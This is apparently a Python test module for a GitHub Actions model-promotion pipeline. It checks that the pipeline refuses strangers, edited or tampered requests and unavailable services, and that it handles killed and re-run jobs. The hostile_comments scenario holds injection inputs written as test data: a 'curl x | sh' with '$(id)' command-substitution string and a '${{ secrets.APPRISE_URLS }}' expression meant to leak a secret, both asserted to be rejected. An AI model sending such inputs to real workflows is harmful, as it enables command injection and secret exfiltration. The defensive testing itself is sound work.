"""The scenarios of a rehearsal. Each acts, asserts the results, and returns what a person sees. A
scenario that fails raises ``AssertionError``.
"""

import json
import sys
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, replace
from hashlib import sha256
from pathlib import Path

from lynx_pipeline.deploy_workflow.comment import NAME
from lynx_pipeline_tests.simulators.actions.fake_github import BOT
from lynx_pipeline_tests.simulators.actions.job import Cancelled, Hooks
from lynx_pipeline_tests.simulators.actions.runner import RunResult
from lynx_pipeline_tests.simulators.actions.stage import ALIAS, Stage, request_text
from lynx_pipeline_tests.support import warm
from lynx_pipeline_tests.support.git_server import PUSH
from lynx_pipeline_tests.support.places import OnGit

V = "v0.1.0"
FAST = {"MLFLOW_HTTP_REQUEST_MAX_RETRIES": "0"}
NOWHERE = "http://127.0.0.1:9"
FIRST_JOBS = ("request", "evaluate")


@dataclass(frozen=True)
class Seen:
    """What a person sees of a run: its result, the message, and the state of the registry."""

    what: str
    ended: str
    message: str
    registry: str


def result(run: RunResult) -> str:
    """The first failed job with its exit code; or ``exit code 0``, or ``no run``."""
    for name, job in run.jobs.items():
        for step in job.steps:
            if step.conclusion == "failure":
                last = job.steps[-1] if name == "evaluate" else step
                failed = next((s for s in job.steps if s.id and s.conclusion == "failure"), last)
                return f"{name}: exit code {failed.exit_code}"
    return "no run" if all(job.result == "skipped" for job in run.jobs.values()) else "exit code 0"


def message(run: RunResult) -> str:
    """The failed job's message on the run's page."""
    notes = [note for job in run.jobs.values() for note in job.annotations]
    ours = [note.message for note in notes if note.title == "lynx-pipeline"]
    others = [note.message for note in notes if note.level == "error"]
    return (ours or others or [""])[0]


def bot_comment(stage: Stage) -> str:
    """The bot's only comment; empty if there is none."""
    found = [comment.body for comment in stage.github.comments if comment.login == BOT]
    assert len(found) <= 1, "more than one comment"
    assert all(body.startswith(f"<!-- {NAME}, run ") for body in found)
    return found[0].partition("-->")[2].strip() if found else ""


def evaluated_run(stage: Stage) -> RunResult:
    """A run of the good candidate that was requested by an alias and evaluated, and not promoted.
    It is made once, and each scenario continues it differently. Its comment is the first one."""
    if stage.started is None:
        stage.clear()
        run = stage.runner(stage.comment(request_text(ALIAS, V)), _stop_before("promote")).run()
        assert run.jobs["evaluate"].result == "success", run.jobs["evaluate"].log
        stage.started = run.only(*FIRST_JOBS)
    return stage.started


def _stop_before(job: str) -> Hooks:
    def cancel() -> None:
        raise Cancelled

    return Hooks(before={job: cancel})


@contextmanager
def unchanged(stage: Stage) -> Iterator[None]:
    """Assert that the block changes no byte of the registry's remote, and announces nothing."""
    before, announced = files(stage.registry), len(stage.channel.got)
    yield
    assert files(stage.registry) == before
    assert len(stage.channel.got) == announced


def files(place: OnGit) -> dict[str, bytes]:
    """Every file of the repository, except its hooks."""
    return {
        str(path.relative_to(place.bare)): path.read_bytes()
        for path in sorted(place.bare.rglob("*"))
        if path.is_file() and "hooks" not in path.parts
    }


def _promoted(stage: Stage, semver: str = V) -> None:
    """Assert that the registry has this one promotion, by the workflow, with its tag."""
    (line,) = stage.registry.index().splitlines()
    entry = json.loads(line)
    assert (entry["semver"], entry["env"], entry["event"]) == (semver, "prod", "promoted")
    assert entry["actor"]["workflow_ref"].endswith("/deploy-grammar-tutor.yml@refs/heads/main")
    assert entry["actor"]["environment"] == "production"
    assert stage.registry.tags() == [f"grammar-tutor@{semver}"]


def _promote_with(stage: Stage, hooks: Hooks, mlflow: str = "") -> RunResult:
    """Run the second half of the good candidate's run."""
    given = evaluated_run(stage)
    stage.clear()
    runner = stage.runner(stage.comment(request_text(ALIAS, V)), hooks)
    return replace(runner, vars={"MLFLOW_TRACKING_URI": mlflow or stage.mlflow}).run(given)


def _refused(
    stage: Stage, what: str, act: Callable[[], object], code: int, says: str, mlflow: str = ""
) -> Seen:
    """Call ``act`` between evaluation and promotion; assert that nothing is promoted."""
    evaluated_run(stage)
    stage.clear()  # removes the results of earlier scenarios
    with unchanged(stage):
        run = _promote_with(
            stage, Hooks(before={"promote": act}, extra_env={"promote": FAST}), mlflow
        )
    assert run.jobs["promote"].result == "failure"
    assert result(run) == f"promote: exit code {code}", run.jobs["promote"].log
    assert says in message(run), message(run)
    assert "stopped in job `promote`" in bot_comment(stage)
    return Seen(what, result(run), message(run), "as before")


# ----- the two verdicts -----------------------------------------------------------------------


def clean(stage: Stage) -> list[Seen]:
    """A good candidate is promoted, tagged, and reported in the pull request and the channel."""
    stage.clear()
    run = stage.runner(stage.comment(request_text(stage.good, V))).run()
    assert {job.result for job in run.jobs.values()} == {"success"}, result(run)
    _promoted(stage)
    assert bot_comment(stage).startswith(f"### Promoted `{V}`")
    assert run.jobs["report"].summary.startswith(f"### Promoted `{V}`")
    (notification,) = stage.channel.got
    assert notification["title"] == f"grammar-tutor: promoted {V} in prod"
    assert run.jobs["evaluate"].token not in run.jobs["evaluate"].log
    return [Seen("a clean candidate", result(run), notification["title"], f"+ {V}, with its tag")]


def regressed(stage: Stage) -> list[Seen]:
    """A regressed candidate fails the run, and the comment shows the bucket table."""
    stage.clear()
    comment = stage.comment(request_text(stage.bad, V))
    with unchanged(stage):
        run = stage.runner(comment).run()
    assert result(run) == "evaluate: exit code 1"
    assert run.jobs["promote"].result == "skipped"
    text = bot_comment(stage)
    assert text.startswith(f"### Refused `{V}`: it failed the gate")
    assert "| tense.past&#95;simple |" in text
    assert run.jobs["report"].summary.strip() == text
    return [Seen("a regressed candidate", result(run), message(run), "as before")]


def label(stage: Stage) -> list[Seen]:
    """The label starts the same run as the comment; a different label starts none."""
    stage.clear()
    comment = stage.comment(request_text(stage.good, V))
    with unchanged(stage):
        other = stage.labelled("documentation").run()
        run = stage.labelled(hooks=_stop_before("evaluate")).run()
    assert result(other) == "no run"
    assert run.jobs["request"].outputs["comment"] == str(comment.id)
    return [Seen("a different label", result(other), "", "as before")]


# ----- requests -------------------------------------------------------------------------------


def hostile_comments(stage: Stage) -> list[Seen]:
    """Comments that a shell, an expression or a lenient parser would misread."""
    good = request_text(stage.good, V)
    return [
        _rejected_comment(
            stage, "quotes and $()", f"\"; curl x | sh #$(id)`id`' {good}", "can't be read"
        ),
        _rejected_comment(
            stage, "an expression", good + "${{ secrets.APPRISE_URLS }}", "can't be read"
        ),
        _rejected_comment(
            stage, "newlines", f"mlflow_run_id={stage.good}\nsemver={V}", "contains 2 requests"
        ),
        _rejected_comment(stage, "two requests", f"{good}\n{good}", "contains 2 requests"),
        _rejected_comment(
            stage, "a look-alike", good.replace("semver", "\u0455emver"), "can't be read"
        ),
        _rejected_comment(stage, "60 kB", "a" * 60_000 + good, "can't be read"),
    ]


def _rejected_comment(stage: Stage, what: str, text: str, says: str) -> Seen:
    stage.clear()
    comment = stage.comment(text)
    with unchanged(stage):
        run = stage.runner(comment).run()
    assert result(run) == "request: exit code 2", run.jobs["request"].log
    assert says in message(run)
    assert run.jobs["evaluate"].result == "skipped"
    assert "semver&#61;v1.2.3" in bot_comment(stage) or "semver=v1.2.3" in bot_comment(stage)
    return Seen(f"hostile comment: {what}", result(run), message(run), "as before")


def strangers(stage: Stage) -> list[Seen]:
    """Unauthorized users are refused and can't make the bot comment; other comments do nothing."""
    found = []
    for what, author, says in (
        ("an author not in CODEOWNERS", "mallory", "mallory is not an owner of"),
        ("an owner without write access", "reader", "reader cannot write to this repository"),
    ):
        stage.clear()
        comment = stage.comment(request_text(stage.good, V), author)
        with unchanged(stage):
            run = stage.runner(comment).run()
        assert result(run) == "request: exit code 1"
        assert says in message(run)
        assert bot_comment(stage) == ""
        found.append(Seen(what, result(run), message(run), "as before"))
    stage.clear()
    old = stage.runner(stage.comment(request_text(stage.good, V)))
    for what, user, again in (
        (
            "an old request, and a different user sets the label",
            "reader",
            stage.labelled(by="reader"),
        ),
        ("an old run that a different user re-runs", "hubot", replace(old, again_by="hubot")),
    ):
        with unchanged(stage):
            run = again.run()
        assert result(run) == "request: exit code 1"
        assert f"octocat requested the release, but {user} triggered this run: {user}" in message(
            run
        )
        assert bot_comment(stage) == ""
        found.append(Seen(what, result(run), message(run), "as before"))
    stage.clear()
    with unchanged(stage):
        run = stage.runner(stage.comment("LGTM")).run()
        stage.pull.labels.clear()
        unlabelled = stage.runner(stage.comment(request_text(stage.good, V))).run()
    assert result(run) == result(unlabelled) == "no run"
    return [*found, Seen("an unrelated comment, or no label", result(run), "", "as before")]


def edited(stage: Stage) -> list[Seen]:
    """An edited comment is refused, at the start and before the promotion, even if the edit was
    within the same second."""

    def edit() -> None:
        comment = stage.github.comments[0]
        comment.edit(comment.body)

    stage.clear()
    comment = stage.comment("LGTM")
    comment.edit(request_text(stage.good, V), at=comment.created_at)
    with unchanged(stage):
        run = stage.labelled().run()
    assert result(run) == "request: exit code 1"
    assert "edited after it was written" in message(run)
    first = Seen("a comment edited immediately", result(run), message(run), "as before")
    later = _refused(
        stage, "a comment edited during the run", edit, 1, "edited after it was written"
    )
    return [first, later]


def taken_back(stage: Stage) -> list[Seen]:
    """The label, the request or the author's access is revoked before the promotion."""
    lost = stage.github.collaborators
    try:
        return [
            _refused(
                stage,
                "the label removed during the run",
                lambda: stage.pull.labels.clear(),
                1,
                "has no label 'deploy-candidate'",
            ),
            _refused(
                stage,
                "a newer request during the run",
                lambda: stage.comment(request_text(stage.bad, "v0.2.0")),
                1,
                "a newer request has its own run",
            ),
            _refused(
                stage,
                "an author who loses write access during the run",
                lambda: lost.update(octocat="read"),
                1,
                "octocat cannot write to this repository",
            ),
        ]
    finally:
        lost["octocat"] = "admin"


# ----- what is promoted -----------------------------------------------------------------------


def tampered(stage: Stage) -> list[Seen]:
    """Candidate or evidence are replaced in transit, with and without GitHub's own digest."""

    def change(member: str, digest: bool, artifact: str = "evidence") -> Callable[[], None]:
        def act() -> None:
            archive = _latest(stage) / f"{artifact}.zip"
            with zipfile.ZipFile(archive) as old:
                kept = {name: old.read(name) for name in old.namelist()}
            kept[member] = kept[member].replace(b'"correct": 1134', b'"correct": 1200') + b"\n"
            with zipfile.ZipFile(archive, "w") as new:
                for name, raw in kept.items():
                    new.writestr(name, raw)
            if digest:
                about = archive.with_suffix(".json")
                values = json.loads(about.read_text())
                values["digest"] = sha256(archive.read_bytes()).hexdigest()
                about.write_text(json.dumps(values))

        return act

    stage.clear()
    hooks = Hooks(before={"evaluate": change("bundle/MLmodel", True, "candidate")})
    with unchanged(stage):
        run = stage.runner(stage.comment(request_text(stage.good, V)), hooks).run()
    assert result(run) == "evaluate: exit code 2", run.jobs["evaluate"].log
    assert "the candidate changed in transit: 'MLmodel' was changed" in message(run)
    assert "the candidate changed in transit" in bot_comment(stage)
    return [
        Seen("the candidate replaced, with its digest", result(run), message(run), "as before"),
        _refused(
            stage,
            "the evidence changed in transit",
            change("candidate_eval.json", False),
            1,
            "digest validation failed",
        ),
        _refused(
            stage,
            "the evaluation replaced, with its digest",
            change("candidate_eval.json", True),
            2,
            "it changed in transit",
        ),
        _refused(
            stage,
            "the predictions replaced, with their digest",
            change("predictions.parquet", True),
            2,
            "its SHA-256 differs",
        ),
    ]


def _latest(stage: Stage) -> Path:
    """The artifacts of the current run."""
    return stage.folder / "runs" / str(stage.runs) / "attempt-1" / "artifacts"


def relogged(stage: Stage) -> list[Seen]:
    """After the evaluation, a different model is logged under the same run, or the requested alias
    is moved to a different model."""
    try:
        return [
            _refused(
                stage,
                "the requested alias moved during the run",
                lambda: stage.move_alias(stage.bad),
                1,
                "If an alias was moved, request it again",
            ),
            _refused(
                stage,
                "the candidate logged again during the run",
                lambda: stage.relog(stage.good),
                2,
                "has changed since its evaluation",
            ),
        ]
    finally:
        stage.unlog()
        stage.move_alias(stage.good)


def elsewhere(stage: Stage) -> list[Seen]:
    """A run's artifacts are on a foreign host, to which MLflow's token is not sent."""
    stage.clear()
    comment = stage.comment(request_text(stage.log_elsewhere(), V))
    runner = stage.runner(comment)
    with unchanged(stage):
        run = replace(runner, secrets={"MLFLOW_TRACKING_TOKEN": "precious"}).run()
    assert result(run) == "request: exit code 1", run.jobs["request"].log
    assert "neither its own artifact service nor in 'artifact_locations'" in message(run)
    return [Seen("artifacts on a foreign host", result(run), message(run), "as before")]


# ----- unavailable services -------------------------------------------------------------------


def mlflow_down(stage: Stage) -> list[Seen]:
    """MLflow is down at the request, or at the promotion."""
    stage.clear()
    runner = stage.runner(
        stage.comment(request_text(stage.good, V)), Hooks(extra_env={"request": FAST})
    )
    with unchanged(stage):
        run = replace(runner, vars={"MLFLOW_TRACKING_URI": NOWHERE}).run()
    assert result(run) == "request: exit code 3"
    assert "MLflow at http://127.0.0.1:9 failed" in message(run)
    assert "stopped in job `request`" in bot_comment(stage)
    first = Seen("MLflow down at the request", result(run), message(run), "as before")
    later = _refused(stage, "MLflow down at the promotion", lambda: None, 3, "MLflow at", NOWHERE)
    return [first, later]


def dvc_down(stage: Stage) -> list[Seen]:
    """The eval set can't be pulled."""
    given = evaluated_run(stage).only("request")
    stage.clear()
    away = stage.dvc_remote.with_name("away")
    comment = stage.comment(request_text(ALIAS, V))
    stage.dvc_remote.rename(away)
    try:
        with unchanged(stage):
            run = stage.runner(comment).run(given)
    finally:
        away.rename(stage.dvc_remote)
    assert result(run) == "evaluate: exit code 3", run.jobs["evaluate"].log[-3000:]
    assert run.jobs["promote"].result == "skipped"
    assert "stopped in job `evaluate`" in bot_comment(stage)
    return [Seen("DVC's remote down", result(run), message(run), "as before")]


def github_down(stage: Stage) -> list[Seen]:
    """GitHub's API is down before the promotion, so the request can't be checked again."""

    def fall() -> None:
        stage.github.down = True

    def rise() -> None:
        stage.github.down = False

    evaluated_run(stage)
    with unchanged(stage):
        run = _promote_with(stage, Hooks(before={"promote": fall, "report": rise}))
    assert result(run) == "promote: exit code 3"
    assert "reading pull request 7 failed" in message(run), run.jobs["promote"].log
    return [Seen("GitHub's API down", result(run), message(run), "as before")]


def rejected(stage: Stage) -> list[Seen]:
    """The registry's remote rejects the push."""
    return [
        _refused(
            stage,
            "the registry's push rejected",
            lambda: stage.registry.hook("pre-receive", "echo 'not today' >&2; exit 1"),
            3,
            "the remote rejected the entry",
        )
    ]


# ----- re-runs --------------------------------------------------------------------------------

# Kills a step and its processes when a marker file appears, like the loss of a machine.
_KILLER = """
import os, pathlib, signal, subprocess, sys, time
marker, *command = sys.argv[1:]
child = subprocess.Popen(command)
while child.poll() is None and not pathlib.Path(marker).exists():
    time.sleep(0.005)
def tree(pid):
    for task in pathlib.Path(f"/proc/{pid}/task").glob("*"):
        for one in (task / "children").read_text().split():
            yield from tree(one)
    yield int(pid)
for pid in list(tree(child.pid)):
    try:
        os.kill(pid, signal.SIGKILL)
    except ProcessLookupError:
        pass
sys.exit(137)
"""


def killed(stage: Stage) -> list[Seen]:
    """The machine is lost as the push starts, or right after it; the failed jobs are re-run."""
    marker = stage.folder / "marker"
    killer = stage.folder / "tools" / "killer.py"
    killer.write_text(_KILLER)
    wrap = {"promote/promote": [sys.executable, str(killer), str(marker)]}
    found = []
    for what, after in (("before the push", False), ("after the push", True)):
        given = evaluated_run(stage)
        stage.clear()
        marker.unlink(missing_ok=True)
        if after:
            stage.registry.hook("post-receive", f"touch {marker}; sleep 1")
        else:
            stage.git_hooks[PUSH] = marker.touch
        # The killer finds only the processes of a program that starts cold.
        cold = {"promote": {"READY_ENVIRONMENT": str(warm.COLD)}}
        runner = stage.runner(stage.comment(request_text(ALIAS, V)))
        usual_hooks = runner.hooks
        hooks = replace(usual_hooks, wrap={**usual_hooks.wrap, **wrap}, extra_env=cold)
        runner = replace(runner, hooks=hooks)
        try:
            run = runner.run(given)
        finally:
            stage.git_hooks.pop(PUSH, None)
        assert result(run) == "promote: exit code 137", run.jobs["promote"].log
        assert "running the failed jobs again is safe" in bot_comment(stage)
        if after:
            _promoted(stage)
        again = replace(runner, hooks=usual_hooks).rerun_failed(run)
        assert result(again) == "exit code 0", again.jobs["promote"].log
        _promoted(stage)
        assert bot_comment(stage).startswith(f"### Promoted `{V}`")
        assert len(stage.channel.got) == 1
        state = f"+ {V}" if after else "old or complete new ledger"
        found += [
            Seen(f"killed {what}", result(run), message(run), state),
            Seen(f"killed {what}, re-run", result(again), "", f"+ {V}, once"),
        ]
    return found


def twice(stage: Stage) -> list[Seen]:
    """A repeated request finds the promotion: nothing is written or announced again."""
    given = evaluated_run(stage)
    stage.clear()
    comment = stage.comment(request_text(ALIAS, V))
    first = stage.runner(comment).run(given)
    assert result(first) == "exit code 0", first.jobs["promote"].log
    _promoted(stage)
    with unchanged(stage):
        second = stage.runner(comment).run(given)
        stage.pull.labels.clear()
        by_others = replace(stage.runner(comment), again_by="hubot").run(given)
    for run in (second, by_others):
        assert result(run) == "exit code 0", run.jobs["promote"].log
    assert bot_comment(stage).startswith(f"### `{V}` was already promoted")
    return [
        Seen("the same request twice", result(second), "", "as before"),
        Seen("its job re-run by a different user", result(by_others), "", "as before"),
    ]


def late(stage: Stage) -> list[Seen]:
    """The report of an old run, run again, does not replace that of the promotion in force."""
    given = evaluated_run(stage)
    stage.clear()
    comment = stage.comment(request_text(ALIAS, V))
    first = stage.runner(comment)
    old = first.run(given)
    again = stage.comment(request_text(ALIAS, "v0.2.0"))
    ready = given.jobs["request"]
    outputs = {**ready.outputs, "comment": str(again.id), "semver": "v0.2.0"}
    request = replace(ready, outputs=outputs)
    new = stage.runner(again).run(replace(given, jobs={**given.jobs, "request": request}))
    assert result(new) == "exit code 0", new.jobs["promote"].log
    text = bot_comment(stage)
    assert text.startswith("### Promoted `v0.2.0`")
    with unchanged(stage):
        report = replace(first, run_attempt=2).run(old.only("request", "evaluate", "promote"))
    assert result(report) == "exit code 0"
    assert (
        f"{V} is not the latest version, v0.2.0 is. No notification sent."
        in report.jobs["report"].log
    )
    assert "A later run wrote the comment" in report.jobs["report"].log
    assert bot_comment(stage) == text
    return [Seen("the old run's report, re-run", result(report), message(report), "as before")]


def apart(stage: Stage) -> list[Seen]:
    """The registry is a separate repository to which only the environment's token can write."""
    stage.separate_tokens = {"registry-writes": "write", "registry-reads": "read"}
    reads = {"LYNX_REGISTRY_TOKEN": "registry-reads"}
    writes = {"production": {"LYNX_REGISTRY_TOKEN": "registry-writes"}}
    found = []
    try:
        for what, its in (("without write access", {}), ("with a token that can write", writes)):
            given = evaluated_run(stage)
            stage.clear()
            runner = stage.runner(stage.comment(request_text(ALIAS, V)))
            secrets = {**runner.secrets, **reads}
            runner = replace(runner, secrets=secrets, environment_secrets=its)
            before = files(stage.registry)
            run = runner.run(given)
            found.append(
                Seen(f"a separate registry, {what}", result(run), message(run), "as before")
            )
            if not its:
                assert result(run) == "promote: exit code 3", run.jobs["promote"].log
                assert files(stage.registry) == before
    finally:
        stage.separate_tokens.clear()
    assert result(run) == "exit code 0", run.jobs["promote"].log
    _promoted(stage)
    assert len(stage.channel.got) == 1
    return [*found[:-1], replace(found[-1], registry=f"+ {V}, with its tag")]


def unheard(stage: Stage) -> list[Seen]:
    """A failing channel is reported, and the promotion remains."""

    def fail() -> None:
        stage.channel.status = 500

    run = _promote_with(stage, Hooks(before={"report": fail}))
    assert result(run) == "exit code 0"
    _promoted(stage)
    assert "The announcement failed; the log says why." in bot_comment(stage)
    return [Seen("a channel that is down", result(run), message(run), f"+ {V}")]


ALL: tuple[Callable[[Stage], list[Seen]], ...] = (
    *(clean, regressed, label, hostile_comments, strangers, edited, taken_back, tampered),
    *(relogged, elsewhere, mlflow_down, dvc_down, github_down, rejected),
    *(killed, twice, late, apart, unheard),
)
